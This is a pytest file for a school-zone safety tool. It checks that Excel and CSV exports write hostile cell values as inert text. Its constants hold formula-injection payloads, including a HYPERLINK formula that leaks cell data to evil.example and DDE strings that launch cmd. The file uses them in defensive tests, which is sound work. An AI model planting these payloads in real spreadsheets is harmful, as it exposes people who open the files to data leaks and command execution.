"""Hostile text in every spreadsheet and CSV: never a formula, never a crash, never silent loss."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import numpy as np
import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import text

from tests.zoneguard.maps.sample import build_city, map_settings
from zoneguard.cells import EXCEL_CELL_LIMIT, SafeDictWriter, csv_text, csv_value, put
from zoneguard.imports import read_table, write_report_files
from zoneguard.reports.exports import export_bytes, write_export
from zoneguard.reports.school_sheet import school_sheet_bytes
from zoneguard.reports.summary import summary_bytes
from zoneguard.reports.xlsx import workbook_bytes

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CONTROL = "阳光\x00幼\x07儿\x1b园\x0b\x0c"
LONG = "长" * 40_000


def _cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def _assert_no_formula(data: bytes) -> list:
    cells = _cells(data)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    return cells


def test_put_writes_text_as_a_string_and_keeps_numbers_and_dates():
    wb = Workbook()
    ws = wb.active
    values = [FORMULA, DDE, PLUS, "-3.5", -3.5, 7, np.int64(9), np.float64("nan"),
              date(2024, 5, 1), datetime(2024, 5, 1, 8, 30)]
    for col, value in enumerate(values, 1):
        put(ws, 1, col, value)
    row = next(load_workbook(io.BytesIO(workbook_bytes(wb))).active.iter_rows(max_col=10))
    assert [c.data_type for c in row] == ["s", "s", "s", "s", "n", "n", "n", "n", "d", "d"]
    assert [c.value for c in row[:7]] == [FORMULA, DDE, PLUS, "-3.5", -3.5, 7, 9]
    assert row[7].value is None  # NaN is an empty cell, not the text 'nan'
    assert row[8].value == datetime(2024, 5, 1) and row[9].value == datetime(2024, 5, 1, 8, 30)


def test_aware_times_are_written_as_beijing_time():
    wb = Workbook()
    put(wb.active, 1, 1, datetime(2026, 11, 30, 15, 30, tzinfo=UTC))
    assert wb.active["A1"].value == datetime(2026, 11, 30, 23, 30)


def test_control_characters_are_dropped_and_long_text_is_cut_with_a_marker():
    wb = Workbook()
    put(wb.active, 1, 1, CONTROL)
    put(wb.active, 1, 2, LONG)
    a, b = next(load_workbook(io.BytesIO(workbook_bytes(wb))).active.iter_rows(max_col=2))
    assert a.value == "阳光幼儿园"
    assert len(b.value) == EXCEL_CELL_LIMIT
    assert b.value.startswith("长" * 30_000) and "已截断" in b.value and "40000" in b.value


@pytest.mark.parametrize("value, expected", [
    (FORMULA, "'" + FORMULA), (DDE, "'" + DDE), (PLUS, "'" + PLUS), (TAB, "'" + TAB),
    ("\r=1", "'\r=1"), ("-1+2", "'-1+2"), ("-3.5", "-3.5"), ("+7", "+7"), (-3.5, -3.5),
    ("普通文本=1", "普通文本=1"), (None, ""), (date(2020, 6, 30), "2020-06-30"),
])
def test_csv_fields_are_neutralised_per_owasp(value, expected):
    assert csv_value(value) == expected


def test_csv_text_reads_back_with_the_quote_prefix_only_where_needed():
    data = csv_text(["name", "n"], [[FORMULA, -3.5], [CONTROL, 2], ["a,\"b\"\nc", None]])
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert rows == [["name", "n"], ["'" + FORMULA, "-3.5"], ["阳光幼儿园", "2"],
                    ["a,\"b\"\nc", ""]]


def _poison(session, city) -> None:
    session.execute(text("UPDATE premises SET name = :n, address = :a, operator = :o, "
                         "licence_no = :l WHERE id = :id"),  # PostgreSQL text holds no NUL
                    {"n": FORMULA, "a": CONTROL.replace("\x00", "") + LONG, "o": DDE, "l": PLUS,
                     "id": city.xss})
    session.execute(text("UPDATE school SET name = :n, address = :a WHERE id = :id"),
                    {"n": TAB, "a": FORMULA, "id": city.school})
    session.execute(text("UPDATE finding SET assignee = :a WHERE id = :id"),
                    {"a": DDE, "id": city.xss_finding})


@pytest.mark.parametrize("what", ["findings", "premises", "schools"])
def test_exports_write_hostile_names_as_text(session, what):
    city = build_city(session)
    _poison(session, city)
    cells = _assert_no_formula(export_bytes(session, what, "xlsx", region="420102"))
    values = {c.value for c in cells}
    expected = {"findings": {FORMULA, DDE, PLUS, TAB}, "premises": {FORMULA, DDE, PLUS},
                "schools": {TAB, FORMULA}}[what]
    assert expected <= values
    assert max(len(str(v)) for v in values) <= EXCEL_CELL_LIMIT
    assert not any("\x07" in str(v) or "\x1b" in str(v) for v in values)

    rows = list(csv.DictReader(io.StringIO(
        export_bytes(session, what, "csv", region="420102").decode("utf-8-sig"), newline="")))
    fields = {v for r in rows for v in r.values()}
    assert {"'" + v for v in expected} <= fields
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in fields)
    assert not any(v.startswith("-") and not v.lstrip("-").replace(".", "").isdigit()
                   for v in fields)


def test_cli_export_file_and_school_sheet_and_summary_hold_no_formula(session, settings,
                                                                       tmp_path: Path):
    city = build_city(session)
    _poison(session, city)
    out = tmp_path / "premises.xlsx"
    assert write_export(session, "premises", "xlsx", out) == 6
    assert FORMULA in {c.value for c in _assert_no_formula(out.read_bytes())}

    sheet = school_sheet_bytes(session, code="4201020001",
                               settings=map_settings(settings, tmp_path), on=date(2024, 5, 1))
    values = [c.value for c in _assert_no_formula(sheet)]
    assert FORMULA in values and f"{TAB} 周边场所距离核查表" in values and DDE in values

    values = [c.value for c in _assert_no_formula(summary_bytes(
        session, region="=1+1", on=date(2024, 1, 3)))]
    assert any(str(v).startswith("学校周边安全区域问题汇总（=1+1") for v in values)
    values = [c.value for c in _assert_no_formula(summary_bytes(
        session, region="4201", on=date(2024, 1, 3)))]
    assert FORMULA in values and DDE in values


def test_import_reports_neutralise_the_rejected_values(tmp_path: Path):
    source = tmp_path / "schools.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["学校名称", "学段", "经度", "纬度", "备注"])
        writer.writerow([FORMULA, "培训机构", "-3.5", "31.23", DDE])
    parsed = read_table(source, kind="schools", crs="wgs84")
    report, rejected = write_report_files(parsed, tmp_path)
    with rejected.open(encoding="utf-8-sig", newline="") as handle:
        bad = list(csv.DictReader(handle))
    assert bad[0]["学校名称"] == "'" + FORMULA and bad[0]["备注"] == "'" + DDE
    assert bad[0]["经度"] == "-3.5"  # a plain number stays as it was
    with report.open(encoding="utf-8-sig", newline="") as handle:
        fields = [v for r in csv.DictReader(handle) for v in r.values()]
    assert not any(v.startswith(("=", "@")) for v in fields)

    wb = Workbook()
    put(wb.active, 1, 1, FORMULA)
    handle = io.StringIO(newline="")
    SafeDictWriter(handle, ["a"]).writerow({"a": FORMULA, "ignored": 1})
    assert handle.getvalue().strip() == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'
